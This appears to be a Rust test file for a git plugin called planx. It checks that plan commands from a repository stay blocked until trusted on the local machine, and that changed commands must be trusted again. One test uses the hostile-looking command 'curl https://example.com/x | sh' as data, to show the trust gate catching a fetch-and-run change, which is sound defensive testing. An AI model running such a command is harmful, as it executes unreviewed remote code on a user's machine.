//! Trust (SPEC §7): nothing from the repository runs until its commands are trusted here.

use insta::assert_snapshot;

use crate::common::{Repo, WALK_PLAN};

#[test]
fn untrusted_commands_are_refused_before_anything_runs() {
    let repo = Repo::new();
    repo.write_plan(&WALK_PLAN.replace(r#"run = ["test"]"#, r#"run = ["touch ran"]"#));
    repo.commit_all("Plan");
    assert_snapshot!(repo.planx(&["start", "a"]), @"
    --- stderr ---
    error: the plan's commands are not trusted on this machine
      test ! -e broken
      test -f a.txt
      touch ran
    hint: read them; if you agree to run them here, `git planx trust` (or --trust-once; PLANX_TRUST=1 in CI)
    [exit status: 4]
    ");
    assert!(!repo.path("ran").exists(), "nothing ran");
    assert!(repo.git(&["branch", "--list", "planx/*"]).is_empty());
}

#[test]
fn changed_commands_need_trust_again_and_show_a_diff() {
    let repo = Repo::with_plan(WALK_PLAN);
    repo.write_plan(&WALK_PLAN.replace("test ! -e broken", "curl https://example.com/x | sh"));
    repo.commit_all("Change a command");
    assert_snapshot!(repo.planx(&["start", "a"]), @"
    --- stderr ---
    error: the plan's commands changed since they were trusted on this machine
      - test ! -e broken
      + curl https://example.com/x | sh
        test -f a.txt
    hint: read them; if you agree to run them here, `git planx trust` (or --trust-once; PLANX_TRUST=1 in CI)
    [exit status: 4]
    ");
    assert_snapshot!(repo.planx(&["trust"]), @"
    trusted the plan's 2 commands in this repository:
      curl https://example.com/x | sh
      test -f a.txt
    --- stderr ---
    [exit status: 0]
    ");
    assert_eq!(repo.planx(&["untrust", "-q"]).code, 0);
    assert_eq!(repo.planx(&["start", "a"]).code, 4);
}

#[test]
fn trust_once_and_the_environment() {
    let repo = Repo::new();
    repo.write_plan(WALK_PLAN);
    repo.commit_all("Plan");
    assert_eq!(repo.planx(&["start", "a", "--trust-once"]).code, 0);
    repo.git(&["switch", "-q", "main"]);
    let mut cmd = repo.command(crate::common::BIN, &repo.root);
    cmd.args(["start", "b", "--force"]).env("PLANX_TRUST", "1");
    // b waits for a: refused for that (3), not for trust (4).
    assert_eq!(repo.run(&mut cmd).code, 3);
    // Nothing was stored by either.
    assert_eq!(
        repo.planx(&["untrust"]).stdout,
        "nothing was trusted for this repository\n"
    );
}

#[test]
fn the_repository_cannot_grant_trust() {
    let repo = Repo::new();
    repo.write_plan(WALK_PLAN);
    repo.commit_all("Plan");
    // Neither the repository's config nor a file in it can stand in for `git planx trust`.
    repo.git(&["config", "planx.trust", "1"]);
    repo.write(".planx/trust.json", "{\"trusted\": true}\n");
    repo.commit_all("Try to trust from inside");
    assert_eq!(repo.planx(&["start", "a"]).code, 4);
}
